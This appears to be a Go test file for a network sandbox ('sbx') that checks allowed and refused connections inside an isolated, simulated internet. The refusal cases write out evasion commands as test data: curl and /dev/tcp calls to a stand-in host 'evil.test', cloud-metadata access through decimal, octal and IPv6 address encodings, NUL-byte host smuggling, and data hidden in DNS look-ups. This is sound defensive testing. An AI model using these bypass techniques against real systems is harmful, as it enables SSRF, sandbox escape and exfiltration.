package main

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// The tests below have an internet of their own: a network namespace for the host
// and one for the rest of the world, joined by a pair of virtual interfaces. No
// packet leaves them. The world has servers under public addresses, a name
// server, and canaries that write down who came.
const (
	internetVar = "SBX_TEST_INTERNET" // the mount namespace that the process must have left

	hostAddr  = "10.55.0.1"
	worldAddr = "10.55.0.2"
	webAddr   = "93.184.216.34"
	evilAddr  = "93.184.216.35"
	nameAddr  = "93.184.216.53"
	metaAddr  = "169.254.169.254"
	innerAddr = "10.9.0.5"
	holeNet   = "203.0.113.0/24" // whoever connects there waits for ever

	hostAddr6  = "2a00:55::1"
	worldAddr6 = "2a00:55::2"
	webAddr6   = "2606:2800:220:1::34"
	evilAddr6  = "2606:2800:220:1::35"
	innerAddr6 = "fd12:3456::5"
)

// names is the phone book of the world.
func names() map[string]string {
	book := map[string]string{
		"evil.test": evilAddr, "x.evil.test": evilAddr, "inside.test": innerAddr, "meta.test": metaAddr, "self.test": "127.0.0.1", "host.test": hostAddr,
		"six.test": webAddr6, "evil6.test": evilAddr6, "inside6.test": innerAddr6,
	}
	for _, name := range []string{"example.com", "www.test", "a.wild.test", "wild.test", "git.test", "npm.test", "pypi.test", "goproxy.test", "crates.test", "slow.test"} {
		book[name] = webAddr
	}
	return book
}

// TestInternet runs real clients in the sandbox against servers in a world of its
// own, as root and as an ordinary user.
func TestInternet(t *testing.T) {
	inInternet(t, "TestInternet", func(t *testing.T, h *host) {
		t.Run("clients", func(t *testing.T) { h.t = t; h.clients() })
		t.Run("refused", func(t *testing.T) { h.t = t; h.refusals() })
	})
}

// inInternet runs a test there, as root and as an ordinary user.
func inInternet(t *testing.T, name string, test func(*testing.T, *host)) {
	if left := os.Getenv(internetVar); left != "" {
		inside(t, left, test)
		return
	}
	if os.Geteuid() != 0 {
		t.Skip("network namespaces with addresses of our choice need root; the scripts test the proxy as an ordinary user")
	}
	mine, err := os.Readlink("/proc/self/ns/mnt")
	if err != nil {
		t.Fatal(err)
	}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	args := []string{"-test.run=^" + name + "$", "-test.timeout=10m"}
	if testing.Verbose() {
		args = append(args, "-test.v")
	}
	cmd := exec.Command(self, args...)
	cmd.Env = append(os.Environ(), internetVar+"="+mine)
	cmd.SysProcAttr = &syscall.SysProcAttr{Unshareflags: syscall.CLONE_NEWNS | syscall.CLONE_NEWNET, Pdeathsig: syscall.SIGKILL}
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	t.Logf("%s", out)
}

// world is the other side.
type world struct {
	t       *testing.T
	do      chan func() // run on the thread that is in its namespace
	mu      sync.Mutex
	visits  []string // of canaries
	lookups []string
	mail    []string // addresses of mailboxes
	ca      string   // file with the certificate of the TLS server
	git     string   // bare repository
}

// inside is the test in the new namespaces.
func inside(t *testing.T, left string, test func(*testing.T, *host)) {
	if now, err := os.Readlink("/proc/self/ns/mnt"); err != nil || now == left {
		t.Fatalf("no mount namespace of our own: %s, %v", now, err)
	}
	dir, err := os.MkdirTemp("/var/lib", "sbx-internet-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	w := newWorld(t, dir)
	for file, text := range map[string]string{"/etc/resolv.conf": "nameserver " + nameAddr + "\n", "/etc/hosts": "127.0.0.1 localhost\n"} {
		own := filepath.Join(dir, filepath.Base(file))
		if err := os.WriteFile(own, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := unix.Mount(own, file, "", unix.MS_BIND, ""); err != nil {
			t.Fatal(err)
		}
	}
	w.serve(dir)
	for _, who := range []struct {
		name string
		id   uint32
	}{{"root", 0}, {"user", 65533}} {
		h := &host{t: t, world: w, dir: filepath.Join(dir, who.name), id: who.id}
		h.prepare()
		t.Run(who.name, func(t *testing.T) { test(t, h) })
	}
}

func mustRun(t *testing.T, argv ...string) {
	t.Helper()
	if out, err := exec.Command(argv[0], argv[1:]...).CombinedOutput(); err != nil {
		t.Fatalf("%q: %v\n%s", argv, err, out)
	}
}

// host is where sbx is run, as one user.
type host struct {
	t     *testing.T
	world *world
	dir   string
	id    uint32
}

func (h *host) ws() string { return filepath.Join(h.dir, "ws") }

func (h *host) prepare() {
	for _, dir := range []string{h.dir, h.ws(), filepath.Join(h.dir, "home")} {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			h.t.Fatal(err)
		}
		if err := os.Chown(dir, int(h.id), int(h.id)); err != nil {
			h.t.Fatal(err)
		}
	}
}

// command is what the user runs, outside the sandbox.
func (h *host) command(env []string, argv ...string) (string, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
	cmd.Dir = h.ws()
	cmd.Env = append([]string{
		"PATH=" + os.Getenv(binVar) + ":/usr/local/go/bin:/usr/local/bin:/usr/bin:/bin", "HOME=" + filepath.Join(h.dir, "home"), "LANG=C.UTF-8", "CA=" + h.world.ca,
	}, env...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: h.id, Gid: h.id}, Pdeathsig: syscall.SIGKILL}
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	return out.String(), err
}

// confined runs a text of bash under a list of rules.
func (h *host) confined(network, text string) (string, error) {
	return h.command(nil, filepath.Join(os.Getenv(binVar), "sbx"), "exec", "--network", network, "--", "bash", "-c", text)
}

// clients reach what is listed.
func (h *host) clients() {
	for _, c := range []struct{ name, network, text, want string }{
		{"curl", "allow:www.test", `curl -sS http://www.test/`, "hello"},
		{"curl post", "allow:www.test", `curl -sS -d payload http://www.test/echo`, "payload"},
		{"curl tls", "allow:example.com", `curl -sS --cacert $CA https://example.com/`, "hello"},
		{"curl socks name", "allow:www.test", `curl -sS -x socks5h://127.0.0.1:61280 http://www.test/`, "hello"},
		{"curl socks address", "allow:93.184.216.34", `curl -sS -x socks5://127.0.0.1:61280 http://93.184.216.34/`, "hello"},
		{"curl wildcard", "allow:*.wild.test", `curl -sS http://a.wild.test/`, "hello"},
		{"curl everything public", "allow:*", `curl -sS http://www.test/ && curl -sS --cacert $CA https://example.com/`, "hello"},
		{"curl listed private", "allow:inside.test,10.9.0.0/16", `curl -sS http://inside.test/`, "canary inner"},
		{"curl listed host", "allow:" + hostAddr, `curl -sS http://` + hostAddr + `/`, "canary host"},
		{"curl upper case", "allow:WWW.test.", `curl -sS http://wWw.TEST./`, "hello"},
		{"wget", "allow:www.test", `wget -qO- http://www.test/`, "hello"},
		{"wget tls", "allow:example.com", `wget -qO- --ca-certificate=$CA https://example.com/`, "hello"},
		{"python", "allow:www.test", `python3 -c 'import urllib.request; print(urllib.request.urlopen("http://www.test/").read().decode())'`, "hello"},
		{"python tls", "allow:example.com", `python3 -c 'import ssl, os, urllib.request as u; print(u.urlopen("https://example.com/", context=ssl.create_default_context(cafile=os.environ["CA"])).read().decode())'`, "hello"},
		{"git", "allow:git.test", `rm -rf clone && git clone -q http://git.test/repo.git clone && cat clone/README && cd clone && git fetch -q && git ls-remote`, "from git"},
		{"npm", "allow:npm.test", `rm -rf node_modules package*.json && npm install --no-audit --no-fund --registry http://npm.test/ greet@1.0.0 && node -e 'console.log(require("greet"))'`, "from npm"},
		{"pip", "allow:pypi.test", `python3 -m pip install -q --no-deps --disable-pip-version-check --target py --index-url http://pypi.test/simple --trusted-host pypi.test greet==1.0 && PYTHONPATH=py python3 -c 'import greet; print(greet.text)'`, "from pypi"},
		{"go", "allow:goproxy.test", `mkdir -p gomod && cd gomod && printf 'module m\ngo 1.21\nrequire example.test/greet v1.0.0\n' >go.mod && GOFLAGS=-mod=mod GONOSUMDB='*' GONOSUMCHECK=1 GOSUMDB=off GOPROXY=http://goproxy.test go mod download -x example.test/greet@v1.0.0 && find $GOMODCACHE -name greet.go | xargs cat`, "from goproxy"},
		{"java", "allow:www.test", `cat >Fetch.java <<'END'
import java.net.*;
class Fetch { public static void main(String[] a) throws Exception {
  System.out.println(new String(new URL("http://www.test/").openStream().readAllBytes())); } }
END
java -XX:TieredStopAtLevel=1 Fetch.java`, "hello"},
		{"curl without the proxy", "allow:www.test", `curl -sS --noproxy "*" http://www.test/`, "hello"},
		{"curl without variables", "allow:example.com", `env -i PATH=$PATH curl -sS --cacert $CA https://example.com/`, "hello"},
		{"raw socket", "allow:www.test", `python3 raw.py www.test 80`, "hello"},
		{"raw socket, address", "allow:93.184.216.34", `python3 raw.py 93.184.216.34 80`, "hello"},
		{"raw socket, not blocking", "allow:www.test", `python3 raw.py www.test 80 nonblocking`, "hello"},
		{"raw socket of IPv6", "allow:93.184.216.34", `python3 raw.py ::ffff:93.184.216.34 80 six`, "hello"},
		{"raw sockets of threads", "allow:www.test", `python3 raw.py www.test 80 threads`, "32 times hello"},
		{"a socket that failed before", "allow:www.test,www.test:1", `python3 raw.py www.test 80 again`, "hello"},
		{"bash", "allow:www.test", `exec 3<>/dev/tcp/www.test/80 && printf 'GET / HTTP/1.0\r\nHost: www.test\r\n\r\n' >&3 && cat <&3`, "hello"},
		{"a name is an address of ours", "allow:www.test", `getent ahostsv4 www.test`, "198.18.0.1"},
		{"a made-up name below a wildcard goes nowhere", "allow:*.test", `getent ahostsv4 secret-in-a-name.evil.test`, "198.18.0.1"},
		{"go without the proxy", "allow:www.test", `mkdir -p gonet && cd gonet && cp ../fetch.go . && env -u HTTP_PROXY -u http_proxy CGO_ENABLED=0 GOTOOLCHAIN=local GO111MODULE=off go run fetch.go`, "hello"},
		{"git over ssh", "allow:git.test:22", `rm -rf clone && chmod 600 key && GIT_SSH_COMMAND='ssh -F none -i key -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null' git clone -q ssh://root@git.test` + h.world.git + `/repo.git clone && cat clone/README`, "from git"},
		{"a server of its own", "allow:", `python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 & for i in $(seq 50); do curl -sS http://localhost:8000/ && break; sleep 0.1; done`, "Directory listing"},
	} {
		h.scripts()
		h.world.taken()
		out, err := h.confined(c.network, c.text)
		if err != nil || !strings.Contains(out, c.want) || strings.Contains(out, "sbx: refused") {
			h.t.Errorf("%s: %v, want %q\n%s", c.name, err, c.want, out)
		}
		visits, lookups := h.world.taken()
		for _, v := range visits {
			if !strings.HasSuffix(c.want, v) {
				h.t.Errorf("%s: canary %s was visited", c.name, v)
			}
		}
		for _, name := range lookups {
			if _, known := names()[strings.ToLower(name)]; !known {
				h.t.Errorf("%s: %q was looked up", c.name, name)
			}
		}
	}
}

// refusals do not reach what is not listed. The control runs the same outside.
func (h *host) refusals() {
	const all = "allow:*:*"
	for _, c := range []struct{ name, network, text, rule string }{
		{"curl", "allow:www.test", `curl -sS http://evil.test/`, "host not listed"},
		{"tunnel", "allow:www.test", `curl -sS -p http://evil.test/`, "host not listed"},
		{"address of a listed host", "allow:www.test", `curl -sS http://` + evilAddr + `/`, "host not listed"},
		{"wildcard", "allow:*.evil.test", `curl -sS http://evil.test/`, "host not listed"},
		{"name that ends alike", "allow:vil.test", `curl -sS http://evil.test/`, "host not listed"},
		{"host in front", "allow:x.evil.test.www.test,www.test", `curl -sS http://x.evil.test/`, "host not listed"},
		{"empty list", "allow:", `curl -sS http://evil.test/`, "host not listed"},
		{"another port", "allow:www.test", `curl -sS http://www.test:8443/`, "port not listed"},
		{"another port, tunnel", "allow:www.test", `curl -sS -p http://www.test:8443/`, "port not listed"},
		{"redirect", "allow:www.test", `curl -sSL http://www.test/to-evil`, "host not listed"},
		{"redirect to metadata", "allow:*", `curl -sSL http://www.test/to-meta`, "metadata address"},
		{"metadata", all, `curl -sS http://169.254.169.254/`, "metadata address"},
		{"metadata, decimal", all, `curl -sS --proxy-header 'X: 1' -x http://127.0.0.1:61280 http://2852039166/`, "metadata address"},
		{"metadata, octal, raw", all, `printf 'GET http://0251.0376.0251.0376/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n' | python3 talk.py`, "metadata address"},
		{"metadata in IPv6", all, `printf 'CONNECT [::ffff:a9fe:a9fe]:80 HTTP/1.1\r\n\r\nGET / HTTP/1.0\r\n\r\n' | python3 talk.py`, "metadata address"},
		{"name of metadata", all, `curl -sS http://meta.test/`, "metadata address"},
		{"name inside", all, `curl -sS http://inside.test/`, "private address"},
		{"address inside", all, `curl -sS http://10.9.0.5/`, "private address"},
		{"loopback of the host", all, `curl --noproxy "" -sS http://127.0.0.1/`, "loopback address"},
		{"loopback of the host, IPv6", all, `curl --noproxy "" -sS 'http://[::1]/'`, "loopback address"},
		{"name of the loopback", all, `curl -sS http://self.test/`, "loopback address"},
		{"0.0.0.0", all, `curl --noproxy "" -sS http://0.0.0.0/`, "loopback address"},
		{"address of the host", all, `curl -sS http://` + hostAddr + `/`, "this host"},
		{"name of the host", all, `curl -sS http://host.test/`, "this host"},
		{"socks", "allow:www.test", `curl -sS -x socks5h://127.0.0.1:61280 http://evil.test/`, "host not listed"},
		{"socks, address", "allow:www.test", `curl -sS -x socks5://127.0.0.1:61280 http://` + evilAddr + `/`, "host not listed"},
		{"wget", "allow:www.test", `wget -qO- -t1 http://evil.test/`, "host not listed"},
		{"git", "allow:git.test", `git ls-remote http://evil.test/repo.git`, "host not listed"},
		{"python", "allow:www.test", `python3 -c 'import urllib.request as u; u.urlopen("http://evil.test/")'`, "host not listed"},
		{"pip", "allow:pypi.test", `python3 -m pip download -q --retries 0 --disable-pip-version-check --index-url http://evil.test/simple --trusted-host evil.test greet`, "host not listed"},
		{"npm", "allow:npm.test", `npm view --fetch-retries 0 --registry http://evil.test/ greet`, "host not listed"},
		{"go", "allow:goproxy.test", `mkdir -p gm && cd gm && GOSUMDB=off GOPROXY=http://evil.test go mod download example.test/other@v1.0.0`, "host not listed"},
		{"host header", "allow:www.test", `curl -sS -H 'Host: www.test' http://evil.test/`, "host not listed"},
		{"NUL", "allow:www.test", `printf 'CONNECT www.test\0.evil.test:80 HTTP/1.1\r\n\r\n' | python3 talk.py; false`, ""},
		{"without the proxy", "allow:www.test", `curl -sS --max-time 5 --noproxy "*" http://evil.test/`, "host not listed"},
		{"without the proxy, address", "allow:www.test", `curl -sS --max-time 5 --noproxy "*" http://` + evilAddr + `/`, "host not listed"},
		{"without the variables", "allow:www.test", `env -i PATH=$PATH curl -sS --max-time 5 http://` + evilAddr + `/`, "host not listed"},
		{"without the proxy, another port", "allow:www.test", `curl -sS --max-time 5 --noproxy "*" http://www.test:8443/`, "port not listed"},
		{"without the proxy, redirect", "allow:www.test", `curl -sSL --max-time 5 --noproxy "*" http://www.test/to-evil`, "host not listed"},
		{"raw socket", "allow:www.test", `python3 raw.py ` + evilAddr + ` 80`, "host not listed"},
		{"raw socket, not blocking", "allow:www.test", `python3 raw.py ` + evilAddr + ` 80 nonblocking`, "host not listed"},
		{"raw socket of IPv6", "allow:www.test", `python3 raw.py ::ffff:` + evilAddr + ` 80 six`, "host not listed"},
		{"raw socket, empty list", "allow:", `python3 raw.py ` + evilAddr + ` 80`, "host not listed"},
		{"raw socket, metadata", all, `python3 raw.py 169.254.169.254 80`, "metadata address"},
		{"raw socket, name of metadata", all, `python3 raw.py meta.test 80`, "metadata address"},
		{"raw socket, name inside", all, `python3 raw.py inside.test 80`, "private address"},
		{"raw socket, address of the host", all, `python3 raw.py ` + hostAddr + ` 80`, "this host"},
		{"raw socket, name of the loopback", all, `python3 raw.py self.test 80`, "loopback address"},
		{"raw socket, the host's loopback", all, `python3 raw.py 127.0.0.1 80`, ""},
		{"an address that stands for no name", all, `python3 raw.py 198.18.9.9 80`, "special address"},
		{"bash", "allow:www.test", `exec 3<>/dev/tcp/` + evilAddr + `/80`, "host not listed"},
		{"name server", all, `python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("` + nameAddr + `", 53))'`, ""},
		{"look-up", "allow:www.test", `getent hosts secret-in-a-name.evil.test`, "host not listed"},
		{"long look-up", "allow:*.test", `getent hosts $(printf 'a%.0s' $(seq 60)).$(printf 'b%.0s' $(seq 60)).$(printf 'c%.0s' $(seq 60)).test`, "long name"},
	} {
		h.scripts()
		h.world.taken()
		out, err := h.confined(c.network, c.text)
		visits, lookups := h.world.taken()
		listed := slices.DeleteFunc(lookups, func(name string) bool { // only names that a rule allows
			_, known := names()[strings.ToLower(name)]
			return known && (c.network == all || c.network == "allow:*" || name == "www.test")
		})
		if len(visits) > 0 || len(listed) > 0 {
			h.t.Errorf("%s: visited %v, looked up %v\n%s", c.name, visits, listed, out)
		}
		if c.rule == "" && err == nil {
			h.t.Errorf("%s: it worked\n%s", c.name, out)
		}
		if c.rule != "" && (!strings.Contains(out, "sbx: refused: ") || !strings.Contains(out, c.rule) || !strings.Contains(out, "would allow it")) {
			h.t.Errorf("%s: no refusal by %q\n%s", c.name, c.rule, out)
		}
	}
	// The control: the canaries are there.
	for _, text := range []string{
		`curl -sS http://evil.test/`, `curl -sS http://169.254.169.254/`, `curl -sS http://inside.test/`, `curl -sS http://` + hostAddr + `/`, `curl -sS http://127.0.0.1/`,
		`curl -sS 'http://[::1]/'`, `curl -sS http://www.test:8443/`, `exec 3<>/dev/tcp/` + evilAddr + `/443`,
	} {
		h.world.taken()
		out, err := h.command(nil, "bash", "-c", text)
		time.Sleep(20 * time.Millisecond)
		if visits, _ := h.world.taken(); err != nil || len(visits) == 0 {
			h.t.Errorf("control %s: %v, visited %v\n%s", text, err, visits, out)
		}
	}
	h.world.taken()
	if _, err := h.command(nil, "getent", "hosts", "secret-in-a-name.evil.test"); err == nil {
		h.t.Error("control: a name that is not there was found")
	}
	if _, lookups := h.world.taken(); !slices.Contains(lookups, "secret-in-a-name.evil.test") {
		h.t.Errorf("control: looked up %v", lookups)
	}
}

// account makes the user known, which ssh wants, in our mount namespace: the
// mount is lost when somebody else on this machine makes a user.
func (h *host) account() {
	const line = "sbxclient:x:65533:65533::/nonexistent:/bin/sh\n"
	accounts, err := os.ReadFile("/etc/passwd")
	if err == nil && !bytes.Contains(accounts, []byte(line)) {
		own := filepath.Join(h.dir, "passwd")
		if err = os.WriteFile(own, append(accounts, line...), 0o644); err == nil {
			err = unix.Mount(own, "/etc/passwd", "", unix.MS_BIND, "")
		}
	}
	if err != nil {
		h.t.Fatal(err)
	}
}

// scripts puts what the clients run into the workspace.
func (h *host) scripts() {
	h.account()
	key, err := os.ReadFile(filepath.Join(filepath.Dir(h.world.git), "key"))
	if err != nil {
		h.t.Fatal(err)
	}
	for name, text := range map[string]string{"talk.py": talk, "raw.py": raw, "fetch.go": fetch, "key": string(key)} {
		name = filepath.Join(h.ws(), name)
		if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
			h.t.Fatal(err)
		}
		if err := os.Chown(name, int(h.id), int(h.id)); err != nil {
			h.t.Fatal(err)
		}
	}
}

// raw knows no proxy.
const raw = `
import errno, select, socket, sys, threading
host, port, how = sys.argv[1], int(sys.argv[2]), (sys.argv + [""])[3]
def talk(s):
    s.sendall(b"GET / HTTP/1.0\r\nHost: " + host.encode() + b"\r\n\r\n")
    got = b""
    while True:
        b = s.recv(65536)
        if not b: return got.decode()
        got += b
def connect():
    if how == "six":
        s = socket.socket(socket.AF_INET6)
        s.connect((host, port))
    elif how == "nonblocking":
        s = socket.socket()
        s.setblocking(False)
        code = s.connect_ex((host, port))
        if code not in (0, errno.EINPROGRESS): raise OSError(code, "connect")
        select.select([], [s], [], 10)
        code = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if code: raise OSError(code, "connect")
        if s.getblocking(): raise Exception("it blocks now")
        s.setblocking(True)
    elif how == "again":
        s = socket.socket()
        code = s.connect_ex((host, 1))
        if code != errno.ECONNREFUSED: raise OSError(code, "connect")
        s.connect((host, port))
    else:
        s = socket.create_connection((host, port), 20)
    return s
if how == "threads":
    good = []
    def one():
        if "hello" in talk(connect()): good.append(1)
    all = [threading.Thread(target=one) for i in range(32)]
    [t.start() for t in all]
    [t.join() for t in all]
    print(len(good), "times hello")
else:
    print(talk(connect()))
`

// fetch is a client in Go, whose sockets do not block.
const fetch = `package main

import (
	"fmt"
	"io"
	"net"
	"os"
)

func main() {
	c, err := net.Dial("tcp", "www.test:80")
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	fmt.Fprint(c, "GET / HTTP/1.0\r\nHost: www.test\r\n\r\n")
	text, _ := io.ReadAll(c)
	fmt.Println(string(text))
}
`

// talk sends standard input to the proxy and prints the answer.
const talk = `
import socket, sys
s = socket.create_connection(("127.0.0.1", 61280), 5)
s.sendall(sys.stdin.buffer.read())
while True:
    b = s.recv(65536)
    if not b: break
    sys.stdout.buffer.write(b)
    if b"\r\n\r\n" in b: break
`
